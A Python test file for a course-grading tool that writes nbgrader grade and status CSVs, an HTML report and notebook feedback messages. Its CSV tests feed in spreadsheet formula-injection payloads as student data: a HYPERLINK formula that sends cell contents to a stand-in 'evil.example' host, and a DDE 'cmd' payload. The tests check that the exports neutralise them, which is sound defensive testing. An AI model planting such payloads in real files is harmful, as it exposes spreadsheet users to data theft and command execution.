"""What ``hitlab grade`` hands out, on real nbgrader gradebooks (SQLite) and real kernels: ``grades.csv`` and
``status.csv`` are RFC 4180 CSV safe to open in a spreadsheet, with nbgrader's rows and values (the same as
``nbgrader export``); ``report.html`` after a partial regrade still shows every lab; feedback messages name
the answer cell's own error, or say the answer was not attempted."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from nbclient import NotebookClient

from hitlab.checks import lab00, questions
from hitlab.checks.choice import dict_code
from hitlab.course.build import tools_on_path
from hitlab.course.notebooks import (
    answered,
    course_root,
    graded_cells,
    read,
    release_notebook,
    solution_code,
    source_notebook,
)
from hitlab.course.submission import failure_messages
from hitlab.grading import gradebook as gbook
from hitlab.grading.report import GRADES_COLUMNS, STATUS_COLUMNS, write_grades_csv, write_status_csv
from hitlab.grading.worker import Outcome

LAB0, LAB1 = "lab00_orientation", "lab01_ehr_data_modeling"
GRADED = datetime(2025, 1, 30, 12, 0, tzinfo=UTC)
DUE = datetime(2025, 1, 31, 23, 59)


@pytest.fixture(scope="module")
def blank_gradebook(tmp_path_factory) -> Path:
    """An empty nbgrader gradebook (nbgrader runs alembic to make one: seconds), copied by each test."""
    tools_on_path()
    path = tmp_path_factory.mktemp("blank") / "gradebook.db"
    with gbook.open_gradebook(f"sqlite:///{path}"):
        pass
    return path


@pytest.fixture
def gb(tmp_path, blank_gradebook):
    """A new gradebook at ``tmp_path/out/gradebook.db``, as ``hitlab grade --out tmp_path/out`` has it."""
    out = tmp_path / "out"
    out.mkdir()
    shutil.copyfile(blank_gradebook, out / "gradebook.db")
    with gbook.open_gradebook(f"sqlite:///{out / 'gradebook.db'}") as book:
        yield book


def _cells(lab: str):
    return graded_cells(read(source_notebook(course_root(), lab)))


def _add_lab(gb, lab: str, duedate: datetime | None = None) -> dict[str, float]:
    """The lab's assignment with its grade cells, as generate_assignment records them; its test cells' points."""
    gb.update_or_create_assignment(lab, duedate=duedate)
    gb.update_or_create_notebook(lab, lab)
    for cell in _cells(lab):
        if cell.kind in ("test", "manual"):
            gb.update_or_create_grade_cell(
                cell.grade_id, lab, lab, max_score=cell.points, cell_type=cell.cell_type
            )
    return {c.grade_id: c.points for c in _cells(lab) if c.kind == "test"}


def _grade(gb, student: str, lab: str, scores: dict[str, float], penalty: float = 0.0) -> None:
    """A graded submission with these test scores (the others 0), recorded as the runner does."""
    grades = {
        c.grade_id: {"auto_score": scores.get(c.grade_id, 0.0)} for c in _cells(lab) if c.kind == "test"
    }
    gbook.record(gb, Outcome(student, lab, "graded", grades=grades), timestamp=GRADED)
    if penalty:  # what nbgrader's late submission plugin records
        gb.find_submission(lab, student).notebooks[0].late_submission_penalty = penalty
        gb.db.commit()


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _pandas(path: Path) -> list[list[str]]:
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    return [list(frame.columns), *frame.to_numpy().tolist()]


# -- A. grades.csv and status.csv ---------------------------------------------------------------------------

# (id, first name, last name, email), in nbgrader's order of students (last name, then first name)
PEOPLE = [
    ("-1", "+44", "-Minus", "@"),
    ('=HYPERLINK("https://evil.example/?"&A1)', "=1+1", "=Equals", "=cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "\tTab", "@At", "-x@example.org"),
    ("line\nbreak", "Li\r\nNe", "Break", None),
    ("doe,jane", "Jane, Q.", "Doe", "jane@example.org"),
    ("s001", "Ada", "Lovelace", "ada@example.org"),
    ('o"neil', 'Pat "P"', "O'Neil", "\rcr@example.org"),
]


def test_grades_csv_is_quoted_safe_and_has_nbgraders_rows(gb, tmp_path):
    points = _add_lab(gb, LAB0, duedate=DUE)  # 10 autograded points and 2 written: max_score 12
    for sid, first, last, email in PEOPLE:
        gb.update_or_create_student(sid, first_name=first, last_name=last, email=email)
    _grade(gb, "s001", LAB0, points)
    _grade(gb, "doe,jane", LAB0, {"lab00_hipaa_roles_test": 2.0, "lab00_hie_test": 1.0}, penalty=1.5)
    _grade(gb, "-1", LAB0, {"lab00_hie_test": -1.0})  # a negative number stays a number
    _grade(gb, "@SUM(1+1)", LAB0, {}, penalty=2.0)  # the penalty never takes the score below 0
    path = tmp_path / "out" / "grades.csv"
    write_grades_csv(gb, path)

    due, at = "2025-01-31 23:59:00", "2025-01-30 12:00:00"
    expected = [
        GRADES_COLUMNS,
        [LAB0, due, at, "'-1", "'-Minus", "'+44", "'@", "-1.0", "0.0", "0.0", "12.0"],
        [LAB0, due, "", "'=HYPERLINK(\"https://evil.example/?\"&A1)", "'=Equals", "'=1+1", "'=cmd|' /C calc'!A0",
         "0.0", "0.0", "0.0", "12.0"],
        [LAB0, due, at, "'@SUM(1+1)", "'@At", "'\tTab", "'-x@example.org", "0.0", "2.0", "0.0", "12.0"],
        [LAB0, due, "", "line\nbreak", "Break", "Li\r\nNe", "", "0.0", "0.0", "0.0", "12.0"],
        [LAB0, due, at, "doe,jane", "Doe", "Jane, Q.", "jane@example.org", "3.0", "1.5", "1.5", "12.0"],
        [LAB0, due, at, "s001", "Lovelace", "Ada", "ada@example.org", "10.0", "0.0", "10.0", "12.0"],
        [LAB0, due, "", 'o"neil', "O'Neil", 'Pat "P"', "'\rcr@example.org", "0.0", "0.0", "0.0", "12.0"],
    ]  # fmt: skip
    assert GRADES_COLUMNS == [  # nbgrader's, in its order
        "assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
        "raw_score", "late_submission_penalty", "score", "max_score",
    ]  # fmt: skip
    assert _rows(path) == expected
    assert _pandas(path) == expected
    numbers = pd.read_csv(path)  # numbers are read as numbers
    assert numbers["raw_score"].tolist() == [-1.0, 0.0, 0.0, 0.0, 3.0, 10.0, 0.0]
    assert numbers["score"].dtype == float and numbers["max_score"].dtype == float

    data = path.read_bytes()  # RFC 4180 on the wire: CRLF, quotes doubled, only fields that need it quoted
    assert data.startswith(",".join(GRADES_COLUMNS).encode() + b"\r\n")
    assert b'"doe,jane",Doe,"Jane, Q."' in data and b'"o""neil",O\'Neil,"Pat ""P"""' in data
    assert b'"line\nbreak",Break,"Li\r\nNe"' in data and b',"\'\rcr@example.org",' in data
    assert b"-1.0,0.0,0.0,12.0\r\n" in data


def test_status_csv_is_quoted_and_safe(gb, tmp_path):
    _add_lab(gb, LAB0)
    details = {
        "s001": "",
        "=evil": '=HYPERLINK("https://evil.example")',
        "tabby": "\tstarts with a tab",
        "multi": 'line one, with a comma\nline two "quoted"',
        "minus": "-3 points: see the log",
    }
    for sid, detail in details.items():
        gbook.record(gb, Outcome(sid, LAB0, "graded" if not detail else "crashed", detail), timestamp=GRADED)
    path = tmp_path / "status.csv"
    write_status_csv(list(gbook.statuses(gb).values()), path)
    expected = [
        STATUS_COLUMNS,
        ["'=evil", LAB0, "crashed", '\'=HYPERLINK("https://evil.example")'],
        ["minus", LAB0, "crashed", "'-3 points: see the log"],
        ["multi", LAB0, "crashed", 'line one, with a comma\nline two "quoted"'],
        ["s001", LAB0, "graded", ""],
        ["tabby", LAB0, "crashed", "'\tstarts with a tab"],
    ]
    assert _rows(path) == expected
    assert _pandas(path) == expected
    data = path.read_bytes()
    assert data.count(b"\r\n") == len(expected) and b'"line one, with a comma\nline two ""quoted"""' in data


def test_grades_csv_equals_nbgraders_export_command(gb, tmp_path):
    """On plain values our grades.csv says what ``nbgrader export`` (nbgrader's CsvExportPlugin) does; the
    command is the one the instructors' guide gives, run from the folder holding OUT."""
    points = _add_lab(gb, LAB0, duedate=DUE)
    _add_lab(gb, LAB1)
    gb.update_or_create_student("s002", first_name="Bo", last_name="Li", email="bo@example.org")
    gb.update_or_create_student("s003")  # no name, no submission
    _grade(gb, "s001", LAB0, points)
    _grade(gb, "s002", LAB0, {"lab00_hie_test": 1.0}, penalty=0.5)
    _grade(gb, "s002", LAB1, {})
    out = tmp_path / "out"
    write_grades_csv(gb, out / "grades.csv")
    gb.close()  # nbgrader opens the database itself

    command = [
        "nbgrader", "export", "--course=hitlab", "--db=sqlite:///OUT/gradebook.db",
        "--exporter=nbgrader.plugins.CsvExportPlugin", "--to=OUT/nbgrader-grades.csv",
    ]  # fmt: skip
    bindir = str(Path(sys.executable).parent)  # nbgrader and alembic, as an activated venv has them
    done = subprocess.run(
        [bindir + "/" + command[0], *(a.replace("OUT", out.name) for a in command[1:])],
        cwd=out.parent, capture_output=True, text=True,
        env={"PATH": bindir + ":/usr/bin:/bin", "HOME": str(tmp_path)},  # no one's Jupyter config
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    theirs = (out / "nbgrader-grades.csv").read_text(encoding="utf-8")
    ours = (out / "grades.csv").read_bytes().decode("utf-8")
    assert ours.replace("\r\n", "\n") == theirs
    assert len(theirs.splitlines()) == 1 + 2 * 3  # every student for every lab
    assert "lab00_orientation,2025-01-31 23:59:00,2025-01-30 12:00:00,s002,Li,Bo,bo@example.org,1.0,0.5,0.5,12.0" in theirs  # fmt: skip


# -- B. report.html after a partial regrade -----------------------------------------------------------------


def test_report_shows_every_lab_in_the_gradebook_after_a_one_lab_run(gb, tmp_path):
    from hitlab.grading.runner import _write_exports

    points0, points1 = _add_lab(gb, LAB0), _add_lab(gb, LAB1)
    _grade(gb, "s001", LAB0, points0)
    _grade(gb, "s001", LAB1, points1)
    _grade(gb, "s002", LAB1, {})
    gbook.record(gb, Outcome("s003", LAB1, "missing", "no submission"), timestamp=GRADED)
    gb.update_or_create_assignment("lab99_retired")  # graded once, since removed from the course
    gbook.record(gb, Outcome("s001", "lab99_retired", "missing", "no submission"), timestamp=GRADED)
    out = tmp_path / "out"

    # this run regraded lab00 only: only its source and questions are at hand
    source0 = read(source_notebook(course_root(), LAB0))
    _write_exports(gb, out, [LAB0], {LAB0: source0}, {LAB0: {q.grade_id: q for q in questions(LAB0)}},
                   root=course_root())  # fmt: skip

    page = (out / "report.html").read_text(encoding="utf-8")
    sections = dict(re.findall(r'<section class="lab" id="([^"]+)">(.*?)</section>', page, re.S))
    assert list(sections) == [LAB0, LAB1, "lab99_retired"]
    assert "graded: 1. Graded submissions: 1." in sections[LAB0]
    assert "graded: 2, missing: 1. Graded submissions: 2." in sections[LAB1]
    lab1 = questions(LAB1)
    assert f"out of {sum(points1.values()):g}; mean {sum(points1.values()) / 2:.1f}" in sections[LAB1]
    assert all(q.title in sections[LAB1] for q in lab1)  # its item analysis, from its own questions
    assert "no longer in the course" in sections["lab99_retired"]
    assert [r[3] for r in _rows(out / "grades.csv")[1:]] == ["s001", "s002", "s003"] * 3
    assert len(_rows(out / "status.csv")) == 1 + 5


# -- C. feedback messages from executed notebooks -----------------------------------------------------------


def _executed(tmp_path: Path, name: str, **answers: str | None) -> Path:
    """The released lab00, every answer correct except those given (grade id without ``lab00_``; None keeps
    the released cell), run top to bottom in a real kernel as autograde does (errors do not stop it)."""
    filled = {c.grade_id: solution_code(c.source) for c in _cells(LAB0) if c.kind == "answer"}
    for key, code in answers.items():
        if code is None:
            del filled[f"lab00_{key}"]
        else:
            filled[f"lab00_{key}"] = code
    nb = answered(read(release_notebook(course_root(), LAB0)), filled)
    NotebookClient(nb, timeout=120, kernel_name="python3", allow_errors=True,
                   resources={"metadata": {"path": str(tmp_path)}}).execute()  # fmt: skip
    path = tmp_path / f"{name}.ipynb"
    nbformat.write(nb, path)
    return path


def _check_says(question, answer) -> str:
    with pytest.raises(AssertionError) as failed:
        question.check(answer)
    return str(failed.value)


@pytest.mark.notebook
def test_failure_messages_name_the_answer_cells_own_error(tmp_path):
    path = _executed(
        tmp_path, "mixed",
        standards_body=None,  # blank, as released: raise NotImplementedError()
        hipaa_roles='hipaa_roles = {"a health plan (an insurer)": "covered entity"}}',
        code_systems="code_systems = 1 / 0",
        encounters_2024="encounter_2024_sql = 'select 1'",  # runs, but defines the wrong name
        hie='hie = "A"',  # runs, wrong
    )  # fmt: skip
    messages = failure_messages(path)
    assert set(messages) == {f"lab00_{q}_test" for q in ("standards_body", "hipaa_roles", "code_systems", "encounters_2024", "hie")}  # fmt: skip
    assert messages["lab00_standards_body_test"] == (
        "not attempted yet (answer cell lab00_standards_body still raises NotImplementedError)"
    )
    syntax = messages["lab00_hipaa_roles_test"]
    assert syntax.startswith("your answer cell lab00_hipaa_roles failed with SyntaxError: "), syntax
    assert "unmatched '}'" in syntax and "NameError" not in syntax
    assert messages["lab00_code_systems_test"] == (
        "your answer cell lab00_code_systems failed with ZeroDivisionError: division by zero"
    )
    assert messages["lab00_encounters_2024_test"] == (
        "Q5 encounters by class in 2024: `encounters_2024_sql` is not defined: run the cell that sets it "
        "(Shift-Enter), then this one."
    )
    assert messages["lab00_hie_test"] == _check_says(lab00.q6, "A")
    assert messages["lab00_hie_test"].startswith("Q6 what an HIE does: ")


@pytest.mark.notebook
def test_failure_messages_for_an_empty_answer_and_an_answer_that_fails_late(tmp_path):
    path = _executed(
        tmp_path, "late",
        standards_body="# I will come back to this one\n",
        code_systems=dict_code("code_systems", lab00.CODE_SYSTEMS) + "\nprint(1 / 0)\n",
        hie='hie = "A"\nprint(1 / 0)\n',
    )  # fmt: skip
    messages = failure_messages(path)
    assert messages == {
        "lab00_standards_body_test": "not attempted yet (answer cell lab00_standards_body is empty)",
        # code_systems was set before its cell failed, and is right: the check passed, nothing to say
        "lab00_hie_test": "your answer cell lab00_hie failed with ZeroDivisionError: division by zero; "
        f"then the check said {_check_says(lab00.q6, 'A')}",
    }
